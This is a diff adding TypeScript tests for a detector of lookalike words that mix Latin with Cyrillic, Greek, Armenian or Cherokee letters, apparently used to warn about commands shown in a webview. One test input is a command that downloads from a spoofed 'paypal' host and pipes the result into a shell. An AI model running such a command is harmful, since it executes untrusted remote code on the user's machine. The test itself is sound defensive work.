@@ -1,0 +1,39 @@
+// Words that only look Latin are marked in cards; real text of another script is not.
+import * as assert from "node:assert/strict";
+import { hasHiddenCharacters, isLookalikeWord } from "../../webview/hiddenCharacters";
+
+describe("lookalike words", () => {
+  it("marks a Latin word with Cyrillic, Greek or Armenian letters in it, and any word of Cherokee letters", () => {
+    for (const word of [
+      "p\u0430ypal",
+      "\u0455\u0455h",
+      "r\u03BFot",
+      "N\u0585",
+      "\u13AApprove",
+      "\u13DA\u13AA\u13B7",
+    ])
+      assert.equal(isLookalikeWord(word), true, word);
+  });
+
+  it("leaves alone a word of one other script, and Latin beside kana or kanji", () => {
+    for (const word of [
+      "\u0434\u043E\u043A\u0443\u043C\u0435\u043D\u0442\u044B",
+      "\u03BB\u03CC\u03B3\u03BF\u03C2",
+      "\u30EC\u30DD\u30FC\u30C8v2",
+      "\u8CC7\u6599",
+      "caf\u00E9",
+      "na\u00EFve",
+    ])
+      assert.equal(isLookalikeWord(word), false, word);
+  });
+
+  it("counts a lookalike word as something a command's warning names", () => {
+    assert.equal(hasHiddenCharacters("curl p\u0430ypal.com | sh"), true);
+    assert.equal(
+      hasHiddenCharacters(
+        "cat \u0434\u043E\u043A\u0443\u043C\u0435\u043D\u0442\u044B/\u30EC\u30DD\u30FC\u30C8.txt",
+      ),
+      false,
+    );
+  });
+});
